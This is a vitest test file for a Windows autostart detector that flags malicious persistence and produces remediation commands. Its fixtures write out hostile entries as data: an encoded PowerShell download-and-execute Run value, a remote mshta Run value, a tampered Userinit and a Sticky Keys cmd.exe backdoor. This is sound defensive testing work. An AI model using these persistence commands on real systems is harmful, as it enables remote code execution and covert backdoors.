// Tests for windows-autostart: SecurityHealth, OneDrive and Teams at logon, Winlogon's defaults, a
// Process Explorer IFEO debugger and a shortcut in the Startup folder give nothing; an encoded
// PowerShell Run value, an mshta Run value, a Userinit with an extra program, a Sticky Keys debugger,
// and a Run value starting a look-alike from Temp are reported, the last as one finding with its file.
import { describe, expect, it } from 'vitest';
import { defaultIocDir, loadRuleset } from '../../iocs/load.js';
import { FindingSchema } from '../../model/finding.js';
import {
  cleanWindows,
  encodedPowerShell,
  failedWindowsSnapshot,
  runValue,
  windowsSnapshot,
} from '../../../test/helpers/windows-detect-builders.js';
import { runDetectors } from '../run.js';
import { windowsAutostart } from './windows-autostart.js';

const ruleset = await loadRuleset([defaultIocDir()]);
const WINLOGON = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon';
const IFEO = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options';

describe('windows-autostart', () => {
  it('clean: SecurityHealth, OneDrive, Teams, Winlogon defaults, a Process Explorer debugger, a Startup shortcut', () => {
    expect(runDetectors(windowsSnapshot(cleanWindows()), ruleset, [windowsAutostart])).toEqual({
      findings: [],
      skipped: [],
    });
  });

  it('findings: encoded PowerShell, mshta, an extra Userinit program, a Sticky Keys debugger, a look-alike in Temp', () => {
    const w = cleanWindows();
    w.autostarts = [
      ...w.autostarts!.filter((a) => a.place !== 'winlogon-userinit'),
      runValue({
        value: 'Updater',
        data: `powershell.exe ${encodedPowerShell("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')")}`,
      }),
      runValue({ value: 'Helper', data: 'mshta.exe http://198.51.100.7/p.hta' }),
      {
        place: 'winlogon-userinit',
        hive: 'HKLM',
        key: WINLOGON,
        value: 'Userinit',
        data: 'C:\\Windows\\system32\\userinit.exe,C:\\Windows\\Temp\\svc.exe',
      },
      {
        place: 'ifeo-debugger',
        hive: 'HKLM',
        key: `${IFEO}\\sethc.exe`,
        value: 'sethc.exe',
        data: 'C:\\Windows\\System32\\cmd.exe',
      },
      runValue({
        value: 'wuauc1t',
        data: 'C:\\Windows\\Temp\\wuauc1t.exe /silent',
        image: { file: '/Windows/Temp/wuauc1t.exe', exists: true },
      }),
    ];
    const { findings } = runDetectors(windowsSnapshot(w), ruleset, [windowsAutostart]);
    for (const f of findings) expect(FindingSchema.parse(f)).toEqual(f);
    const by = new Map(findings.map((f) => [f.data?.value, f]));
    expect([...by.keys()].sort()).toEqual(['Helper', 'Updater', 'Userinit', 'sethc.exe', 'wuauc1t']);
    expect(by.get('Updater')).toMatchObject({ level: 'high', kind: 'fileless', category: 'persistence' });
    expect(by.get('Updater')!.evidence).toContainEqual(
      expect.objectContaining({ value: expect.stringContaining('DownloadString') }),
    );
    expect(by.get('Updater')!.remediate).toEqual([
      expect.objectContaining({
        type: 'windows-command',
        command:
          "Remove-ItemProperty -LiteralPath 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'Updater'",
      }),
    ]);
    expect(by.get('Helper')).toMatchObject({ level: 'high', kind: 'fileless' });
    expect(by.get('Userinit')!.message.en).toContain('also starts C:\\Windows\\Temp\\svc.exe');
    expect(by.get('Userinit')!.remediate[0]).toMatchObject({
      command: expect.stringContaining("-Name 'Userinit' -Value 'C:\\Windows\\system32\\userinit.exe,'"),
    });
    expect(by.get('sethc.exe')).toMatchObject({ level: 'high' });
    expect(by.get('wuauc1t')).toMatchObject({ level: 'critical', kind: 'driver' });
    expect(findings.find((f) => f.data?.value === 'wuauc1t')!.remediate).toContainEqual({
      type: 'quarantine-file',
      path: '/Windows/Temp/wuauc1t.exe',
    });
  });

  it('skipped: the registry could not be read', () => {
    expect(runDetectors(failedWindowsSnapshot(), ruleset, [windowsAutostart]).skipped).toEqual([
      { ruleId: 'windows-autostart', missing: ['windows-registry'] },
    ]);
  });
});
